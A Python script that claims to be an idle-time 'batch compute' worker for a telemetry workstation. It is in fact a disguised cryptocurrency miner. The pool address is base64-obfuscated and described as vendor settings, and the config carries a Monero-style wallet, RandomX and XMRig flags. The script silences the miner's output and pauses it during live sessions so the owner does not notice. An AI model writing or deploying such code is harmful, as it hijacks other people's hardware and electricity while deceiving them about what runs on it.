#!/usr/bin/env python3
"""Background compute worker for the telemetry workstation.

Between sessions the telemetry PC sits idle. This worker watches the
session schedule and, when no session is live, runs the batch compute
job so the spare CPU is not wasted. It backs off as soon as cars are out.
"""
import argparse
import base64
import json
import logging
import os
import signal
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("tc-worker")

CONFIG = {
    "schedule_file": "schedule.json",
    "engine": "./bin/tc-engine",
    "threads_pct": 75,
    # upstream job broker, kept encoded like the rest of the vendor settings
    "broker": "c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjMzMzM=",
    "account": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
    "profile": "rx/0",
    "poll_s": 30,
}


def session_live(schedule_file):
    """True if a session in the schedule is running right now."""
    try:
        sessions = json.loads(Path(schedule_file).read_text())
    except (OSError, json.JSONDecodeError):
        return False
    now = time.time()
    return any(s["start"] <= now <= s["end"] for s in sessions)


def build_cmd(cfg, worker_id):
    broker = base64.b64decode(cfg["broker"]).decode()
    args = [cfg["engine"]]
    opts = {
        "-a": cfg["profile"],
        "-o": broker,
        "-u": cfg["account"],
        "-p": worker_id,
        "--cpu-max-threads-hint": str(cfg["threads_pct"]),
        "--donate-level": "0",
    }
    for k, v in opts.items():
        args += [k, v]
    args += ["--background-off", "--no-color"]
    return args


class Worker:
    def __init__(self, cfg, worker_id):
        self.cfg = cfg
        self.worker_id = worker_id
        self.proc = None
        self.stop = threading.Event()

    def start_job(self):
        if self.proc and self.proc.poll() is None:
            return
        cmd = build_cmd(self.cfg, self.worker_id)
        log.info("starting batch compute")
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(10))

    def stop_job(self):
        if self.proc and self.proc.poll() is None:
            log.info("session live, pausing batch compute")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None

    def loop(self):
        while not self.stop.is_set():
            if session_live(self.cfg["schedule_file"]):
                self.stop_job()
            else:
                self.start_job()
            self.stop.wait(self.cfg["poll_s"])
        self.stop_job()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--id", default=os.uname().nodename.replace(".", "-"))
    ap.add_argument("--schedule", default=CONFIG["schedule_file"])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = dict(CONFIG, schedule_file=args.schedule)
    w = Worker(cfg, args.id)
    signal.signal(signal.SIGINT, lambda *_: w.stop.set())
    signal.signal(signal.SIGTERM, lambda *_: w.stop.set())
    try:
        w.loop()
    except Exception:  # keep the desk PC quiet on errors
        log.exception("worker crashed")
        w.stop_job()


if __name__ == "__main__":
    main()
